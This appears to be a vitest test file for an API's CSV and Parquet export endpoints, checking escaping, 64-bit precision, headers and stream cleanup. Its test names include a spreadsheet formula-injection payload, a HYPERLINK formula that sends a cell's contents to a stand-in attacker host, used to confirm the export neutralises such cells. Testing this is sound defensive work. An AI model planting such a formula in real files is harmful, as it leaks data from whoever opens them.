import { serve, type ServerType } from '@hono/node-server';
import { parse } from 'csv-parse/sync';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import type { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writer } from '../../api/append.ts';
import { createApp } from '../../api/app.ts';
import { reader } from '../../api/reader.ts';
import { readiness } from '../../api/readiness.ts';
import type { App } from '../../api/route.ts';
import { createLog } from '#common/log.ts';
import { ask, type CallRecord, type Ledger, openLedger } from './ledger.ts';

const start = Date.UTC(2026, 5, 1);
const now = new Date(start + 86_400_000);
const from = new Date(start).toISOString();
const parquetType = 'application/vnd.apache.parquet';

/** Names as an attacker or a careless person would choose them. */
const names = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  'say "hi", twice',
  'two\nlines',
  'Größe 🚀',
  "'quoted",
  'plain',
];

const records: CallRecord[] = names.map((name, i) => ({
  call_id: `gw/${i}`,
  started_at: start + i,
  consumer_id: `c${i}`,
  user_id: name,
  usage_output_tokens: i === 0 ? 9_007_199_254_740_993n.toString() : i,
  response_model: 'unpriced',
}));

let ledger: Ledger;
let app: App;
let key: string;
/** The streams that came from the database, to see what becomes of them. */
const opened: Readable[] = [];
let server: ServerType;
let url: string;

beforeAll(async () => {
  ledger = await openLedger();
  const rules = names.map((name, i) => ({ consumer_id: `c${i}`, tenant_id: name, valid_from: 0, valid_to: null }));
  await ledger.attribute(rules);
  await ledger.store(records);
  // Enough to fill every buffer between the database and a client that does not read; another month, other tenants.
  await ledger.db.command(
    "INSERT INTO calls (call_id, version, started_at, consumer_id, user_id) SELECT 'gw/' || toString(number), 1, toDateTime64('2026-01-01 00:00:00', 3, 'UTC') + number / 1000, 'bulk', repeat('x', 400) FROM numbers(150000)",
  );
  key = await ledger.key({ role: 'admin' });
  const db = reader(ledger.db);
  const watched: typeof db = {
    ...db,
    stream: async (view, args, format, selection) => {
      const stream = await db.stream(view, args, format, selection);
      opened.push(stream);
      return stream;
    },
  };
  const setting = {
    db: watched,
    books: writer(ledger.db),
    issuer: 'Platform',
    now: () => now,
    log: createLog('test', 'silent'),
    intakeUrl: null,
  };
  app = createApp(setting, { readiness: readiness(ledger.db, () => now), metricsText: async () => '' }, 'test');
  server = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1', overrideGlobalObjects: false });
  await once(server, 'listening');
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  server.close();
  await ledger.close();
});

async function get(path: string, accept?: string): Promise<Response> {
  const headers = { authorization: `Bearer ${key}`, ...(accept === undefined ? {} : { accept }) };
  return app.request(path, { headers });
}

/** A cell's text as a spreadsheet may see it. */
function safe(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

function table(text: string): Record<string, string>[] {
  return parse(text, { columns: true, relax_column_count: false });
}

const bulk = '/v1/calls?from=2026-01-01T00:00:00Z&to=2026-02-01T00:00:00Z&format=csv';

describe('a list as CSV', () => {
  test('holds the rows and values of the JSON answer, with every cell harmless to a spreadsheet', async () => {
    const path = `/v1/usage?from=${from}&group_by=tenant_id,user_id&step=PT1H`;
    const { data } = await ask(app, key, path);
    const rows = table(await (await get(path, 'text/csv')).text());
    const columns = Object.keys(data[0] ?? {}).filter((name) => name !== 'partial');
    expect(Object.keys(rows[0] ?? {})).toEqual(columns);
    expect(rows).toEqual(data.map((row) => Object.fromEntries(columns.map((name) => [name, safe(String(row[name]))]))));
    expect(new Set(rows.map((row) => row['tenant_id']))).toEqual(new Set(names.map(safe)));
  });

  test('keeps 64-bit counts to the last digit', async () => {
    const rows = table(
      await (await get(`/v1/usage?from=${from}&group_by=consumer_id&format=csv&consumer_id=c0`)).text(),
    );
    expect(rows[0]?.['output_tokens']).toBe('9007199254740993');
  });

  test('says how far its data reaches, is a download, and is never cached', async () => {
    const { headers } = await get(`/v1/spend?from=${from}`, 'text/csv');
    expect(headers.get('x-complete-through')).toBe(new Date(start + names.length - 1 + 1_000).toISOString());
    expect(headers.get('content-type')).toMatch(/^text\/csv/);
    expect(headers.get('content-disposition')).toContain('spend.csv');
    expect(headers.get('cache-control')).toBe('no-store');
  });

  test('of nothing is its header line, so that nothing is told from a failure', async () => {
    const text = await (await get(`/v1/errors?from=${from}&tenant_id=nobody&group_by=tenant_id&format=csv`)).text();
    expect(text).toMatch(/^"tenant_id","calls","status_2xx",.*\n$/);
  });

  test('has no default limit: a file that stops early would look complete', async () => {
    const rows = table(await (await get(`${bulk}&limit=1200`)).text());
    expect(rows.length).toBe(1_200);
    const response = await get(bulk);
    let lines = 0;
    for await (const chunk of response.body ?? []) for (const byte of chunk) if (byte === 10) lines += 1;
    expect(lines).toBe(150_001);
  });

  test('exists for every list, and a cursor with it is refused', async () => {
    for (const route of ['usage', 'spend', 'latency', 'errors', 'calls', 'pipeline']) {
      const accepted = ['text/csv', parquetType, 'text/html, */*'];
      const answers = await Promise.all(accepted.map(async (accept) => get(`/v1/${route}`, accept)));
      const types = answers.map(({ headers }) => headers.get('content-type')?.split(';')[0]);
      expect([route, ...types]).toEqual([route, 'text/csv', parquetType, 'application/json']);
      for (const answer of answers) await answer.body?.cancel();
    }
    const page = await ask(app, key, `/v1/usage?from=${from}&group_by=consumer_id&limit=1`);
    const path = `/v1/usage?from=${from}&group_by=consumer_id&limit=1&cursor=${page.meta.next_cursor}`;
    expect((await get(path, 'text/csv')).status).toBe(400);
  });
});

describe('a list as Parquet', () => {
  test('is a whole file that the database itself reads back with the same values', async () => {
    const response = await get(`/v1/usage?from=${from}&group_by=tenant_id&format=parquet`);
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([bytes.subarray(0, 4).toString(), bytes.subarray(-4).toString()]).toEqual(['PAR1', 'PAR1']);
    const { data } = await ask(app, key, `/v1/usage?from=${from}&group_by=tenant_id`);
    const rows = await ledger.db.query<{ tenant_id: string; output_tokens: string }>(
      `SELECT tenant_id, output_tokens FROM format(Parquet, unhex('${bytes.toString('hex')}'))`,
    );
    expect(rows).toEqual(data.map(({ tenant_id, output_tokens }) => ({ tenant_id, output_tokens })));
  });

  test('of nothing is a whole file too', async () => {
    const response = await get(`/v1/usage?from=${from}&tenant_id=nobody&format=parquet`);
    expect(
      Buffer.from(await response.arrayBuffer())
        .subarray(-4)
        .toString(),
    ).toBe('PAR1');
  });
});

describe('a stream that nobody reads any more', () => {
  test('lets go of the database when the client goes away', async () => {
    const gone = new AbortController();
    const headers = { authorization: `Bearer ${key}` };
    const response = await fetch(url + bulk, { headers, signal: gone.signal });
    await response.body?.getReader().read();
    const source = opened.at(-1);
    expect(source?.destroyed).toBe(false);
    const closed = source === undefined ? Promise.reject(new Error('no stream')) : once(source, 'close');
    gone.abort();
    await closed;
    expect(source?.destroyed).toBe(true);
  });

  test('lets go of the database when the body is cancelled, and for HEAD never holds it', async () => {
    const response = await get(bulk);
    await response.body?.cancel();
    expect(opened.at(-1)?.destroyed).toBe(true);
    await app.request(bulk, { method: 'HEAD', headers: { authorization: `Bearer ${key}` } });
    expect(opened.at(-1)?.destroyed).toBe(true);
  });

  test('is not buffered: the database waits while the client does not read', async () => {
    const response = await get(bulk);
    const body = response.body?.getReader();
    await body?.read();
    expect(opened.at(-1)?.readableEnded).toBe(false);
    await body?.cancel();
  });
});
